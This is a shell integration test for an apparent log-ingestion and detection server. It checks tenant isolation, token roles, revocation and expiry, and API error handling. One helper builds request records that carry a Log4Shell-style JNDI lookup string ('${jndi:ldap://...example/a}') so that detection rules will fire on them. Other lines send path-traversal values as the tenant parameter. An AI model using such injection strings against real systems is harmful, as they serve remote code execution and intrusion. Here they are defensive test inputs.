# The isolation matrix of the HTTP API: tokens of tenant A never see tenant B's data on any
# read endpoint (search, detections, health details, metrics labels); `ingest` tokens
# cannot read, `auditor` tokens cannot write, revoked and expired tokens get 401, and
# ?tenant= outside a token's tenants gets 403.
source "$(dirname "$0")/lib.sh"
command -v curl >/dev/null || fail "curl missing (scripts/install-deps installs it)"
HTTP=$(free_port)
D=$TMP/data
cat > "$TMP/rampart.yaml" <<YAML
data_dir: $D
inputs:
  syslog: {udp: "", tcp: ""}
  http: {listen: "127.0.0.1:$HTTP"}
queue: {flush_interval_ms: 50}
detection: {rules: [$SRC/rules/sigma]}
YAML
start_serve "$TMP/rampart.yaml" "http://127.0.0.1:$HTTP/v1/health"
[ "$(stat -c %a "$D/admin.token")" = 600 ] || fail "admin.token is not mode 0600"
ADMIN=$ADMIN_TOKEN

tok() { "$RAMPART" tokens create "$@" --data "$D" 2>/dev/null; }
INGEST_A=$(tok ingest-a --role ingest --tenant alpha)
INGEST_B=$(tok ingest-b --role ingest --tenant beta)
ANALYST_A=$(tok analyst-a --role analyst --tenant alpha)
ANALYST_B=$(tok analyst-b --role analyst --tenant beta)
AUDITOR_A=$(tok auditor-a --role auditor --tenant alpha)
OPERATOR_AB=$(tok operator-ab --role operator --tenants alpha,beta)
MSP=$(tok msp --role analyst --all-tenants)
REVOKED=$(tok gone --role analyst --tenant alpha)
EXPIRED=$(tok brief --role analyst --tenant alpha --expires 1s)
"$RAMPART" tokens revoke gone --data "$D" >/dev/null || fail "tokens revoke failed"
# An admin is the installation's: a one-tenant admin could grant itself every tenant.
if tok tenant-admin --role admin --tenant alpha >/dev/null; then fail "a one-tenant admin token was made"; fi
"$RAMPART" tokens list --data "$D" > "$TMP/tokens.txt"
grep -q "revoked by local:" "$TMP/tokens.txt" || fail "tokens list does not say who revoked: $(cat "$TMP/tokens.txt")"
if grep -q "rpt_" "$TMP/tokens.txt" "$D/tokens.db"; then fail "a token secret is stored or listed"; fi
sleep 1.2  # `brief` expires

# code TOKEN METHOD PATH [curl args...]: the HTTP status.
code() {
  local token=$1 method=$2 path=$3; shift 3
  curl -s -o "$TMP/body" -w '%{http_code}' -X "$method" ${token:+-H "Authorization: Bearer $token"} \
    "$@" "http://127.0.0.1:$HTTP$path"
}
expect() {  # expect CODE TOKEN METHOD PATH [curl args]
  local want=$1; shift
  local got; got=$(code "$@")
  [ "$got" = "$want" ] || fail "$2 $3 with token ${1:0:12}…: $got, wanted $want: $(cat "$TMP/body")"
}
NOW=$(date -u +%Y-%m-%dT%H:%M:%SZ)
jndi() {  # a Body Log record that the rule pack flags (JNDI lookup), tagged with $1
  printf '{"time":"%s","remote_addr":"203.0.113.9","method":"POST","uri":"/api/%s","protocol":"HTTP/1.1","status":200,"user_agent":"x","content_type":"application/json","request_body":"{\\"q\\":\\"${jndi:ldap://%s.example/a}\\"}"}\n' "$NOW" "$1" "$1"
}

# --- writes: the token's tenant decides; ?tenant= only within the token ------------------
expect 202 "$INGEST_A" POST /v1/ingest --data-binary "$(jndi markeralpha)"
grep -q '"tenant":"alpha"' "$TMP/body" || fail "ingest-a did not write to alpha: $(cat "$TMP/body")"
expect 202 "$INGEST_B" POST /v1/ingest --data-binary "$(jndi markerbeta)"
expect 403 "$INGEST_A" POST "/v1/ingest?tenant=beta" --data-binary "$(jndi sneaky)"
expect 400 "$ADMIN" POST "/v1/ingest?tenant=..%2Fx" --data-binary "x"
expect 401 "" POST /v1/ingest --data-binary "$(jndi anonymous)"
expect 403 "$AUDITOR_A" POST /v1/ingest --data-binary "$(jndi auditor)"
expect 403 "$ANALYST_A" POST /v1/ingest --data-binary "$(jndi analyst)"
expect 403 "$OPERATOR_AB" POST /v1/ingest --data-binary "$(jndi operator)"
expect 401 "$REVOKED" POST /v1/ingest --data-binary "$(jndi revoked)"

search() { code "$1" GET /v1/search -G --data-urlencode "q=$2" "${@:3}"; }
wait_for 10 bash -c "[ \"\$(curl -s -H 'Authorization: Bearer $MSP' -G --data-urlencode 'q=url.path:* | count' http://127.0.0.1:$HTTP/v1/search)\" = '{\"count\":2}' ]" \
  || fail "the two tenants' events were not stored"
wait_for 10 bash -c "curl -s -H 'Authorization: Bearer $MSP' http://127.0.0.1:$HTTP/v1/detections | grep -q markerbeta" \
  || fail "no detection for beta's JNDI record"

# --- reads: every read endpoint, every role ------------------------------------------------
for t in "$ANALYST_A" "$AUDITOR_A"; do
  [ "$(search "$t" 'url.path:*')" = 200 ] || fail "search: $(cat "$TMP/body")"
  grep -q markeralpha "$TMP/body" || fail "alpha's reader does not see alpha"
  if grep -q markerbeta "$TMP/body"; then fail "alpha's reader sees beta in search"; fi
  [ "$(search "$t" 'markerbeta | count')" = 200 ]; grep -q '"count":0' "$TMP/body" || fail "free text reaches beta"
  [ "$(search "$t" 'tenant:beta | count')" = 200 ]; grep -q '"count":0' "$TMP/body" || fail "tenant:beta reaches beta"
  expect 403 "$t" GET "/v1/search?q=x&tenant=beta"
  expect 200 "$t" GET /v1/detections
  grep -q markeralpha "$TMP/body" || fail "alpha's reader has no alpha detection"
  if grep -q '"tenant":"beta"' "$TMP/body"; then fail "alpha's reader sees beta's detections"; fi
  expect 403 "$t" GET "/v1/detections?tenant=beta"
  expect 200 "$t" GET /metrics
  grep -q 'tenant="alpha"' "$TMP/body" || fail "metrics lack alpha's series"
  if grep -q 'tenant="beta"' "$TMP/body"; then fail "alpha's reader sees beta in metrics labels"; fi
  expect 200 "$t" GET /v1/health
  grep -q '"tenant":"alpha"' "$TMP/body" || fail "health details lack alpha"
  if grep -q beta "$TMP/body"; then fail "alpha's reader sees beta in health details"; fi
done
[ "$(search "$ANALYST_B" 'url.path:*')" = 200 ]
if grep -q markeralpha "$TMP/body"; then fail "beta's reader sees alpha"; fi
# A two-tenant operator sees both, and can narrow to one.
[ "$(search "$OPERATOR_AB" 'url.path:* | count')" = 200 ]; grep -q '"count":2' "$TMP/body" || fail "operator-ab: $(cat "$TMP/body")"
[ "$(search "$OPERATOR_AB" 'url.path:* | count' --data-urlencode tenant=beta)" = 200 ]
grep -q '"count":1' "$TMP/body" || fail "operator-ab ?tenant=beta: $(cat "$TMP/body")"
# The row limit bounds an explicit head too.
curl -s -D "$TMP/headers" -o "$TMP/body" -H "Authorization: Bearer $MSP" -G \
  --data-urlencode 'q=url.path:* | head 100000' --data-urlencode limit=1 "http://127.0.0.1:$HTTP/v1/search"
[ "$(grep -c . "$TMP/body")" = 1 ] || fail "limit=1 with | head 100000 gave $(grep -c . "$TMP/body") rows"
grep -qi '^X-Rampart-Truncated: true' "$TMP/headers" || fail "no truncation header: $(cat "$TMP/headers")"
# ingest tokens cannot read anything; no token, revoked or expired: 401 (health excepted).
for path in "/v1/search?q=x" /v1/detections /metrics /v1/tokens; do
  expect 403 "$INGEST_A" GET "$path"
  expect 401 "" GET "$path"
  expect 401 "$REVOKED" GET "$path"
  expect 401 "$EXPIRED" GET "$path"
  expect 401 "rpt_forged_$RANDOM" GET "$path"
done
expect 401 "$EXPIRED" GET /v1/whoami
expect 200 "" GET /v1/health
if grep -q '"inputs"' "$TMP/body"; then fail "anonymous health shows details"; fi
expect 401 "$REVOKED" GET /v1/health  # a bad token is refused even where none is needed
expect 200 "$INGEST_A" GET /v1/health  # an ingest shipper gets the status, no details
if grep -q '"inputs"' "$TMP/body"; then fail "an ingest token sees health details"; fi
# Only admins manage tokens.
for t in "$ANALYST_A" "$AUDITOR_A" "$OPERATOR_AB" "$MSP"; do
  expect 403 "$t" GET /v1/tokens
  expect 403 "$t" POST /v1/tokens --data '{"name":"x","role":"admin","tenants":"*"}'
done
expect 201 "$ADMIN" POST /v1/tokens --data '{"name":"via-api","role":"ingest","tenants":["gamma"]}'
NEW=$(python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["token"])' "$TMP/body")
expect 202 "$NEW" POST /v1/ingest --data-binary "$(jndi gamma)"
grep -q '"tenant":"gamma"' "$TMP/body" || fail "the API-made token did not write to gamma"
expect 200 "$ADMIN" POST "/v1/tokens/revoke?id=via-api"
grep -q '"revoked_by":"token:[0-9a-f]* admin (admin)"' "$TMP/body" || fail "revoke does not record the admin token: $(cat "$TMP/body")"
"$RAMPART" tokens list --json --data "$D" | grep '"name":"via-api"' | grep -q '"created_by":"token:[0-9a-f]* admin (admin)"' \
  || fail "an API-made token does not record its creator"
expect 400 "$ADMIN" POST /v1/tokens --data '{"name":"bad","role":"ingest","tenants":[1]}' 
sleep 0.7
expect 401 "$NEW" POST /v1/ingest --data-binary "$(jndi gamma2)"
# Bad parameters are 400s that say what is wrong.
expect 400 "$ANALYST_A" GET "/v1/search?q=x&limit=abc"
grep -q 'limit must be' "$TMP/body" || fail "limit error: $(cat "$TMP/body")"
expect 400 "$ANALYST_A" GET "/v1/search?q=%28unclosed"
expect 400 "$ANALYST_A" GET "/v1/search?q=x&format=xml"
expect 400 "$ANALYST_A" GET "/v1/detections?since=yesterdayish"
expect 400 "$ANALYST_A" GET "/v1/search?q=x&tenant=..%2Fbeta"
expect 415 "$INGEST_A" POST /v1/ingest -H 'Content-Encoding: br' --data-binary x
expect 400 "$INGEST_A" POST /v1/ingest -H 'Content-Encoding: gzip' --data-binary 'not gzip'
expect 400 "$INGEST_A" POST "/v1/ingest?format=nonsense" --data-binary x
# Errors are JSON with a code and a message.
expect 404 "$ADMIN" GET /v1/nothing
python3 -c 'import json,sys; e=json.load(open(sys.argv[1]))["error"]; assert e["code"] and e["message"]' "$TMP/body" \
  || fail "error body is not {\"error\":{\"code\",\"message\"}}: $(cat "$TMP/body")"
# The served OpenAPI document is the checked-in one.
expect 200 "$ANALYST_A" GET /v1/openapi.json
cmp -s "$TMP/body" "$SRC/docs/openapi.json" || fail "/v1/openapi.json differs from docs/openapi.json"

kill -TERM "$SERVER_PID"; wait "$SERVER_PID" || fail "serve did not stop cleanly"
SERVER_PID=
echo "ok: isolation matrix holds for search, detections, health, metrics and tokens"
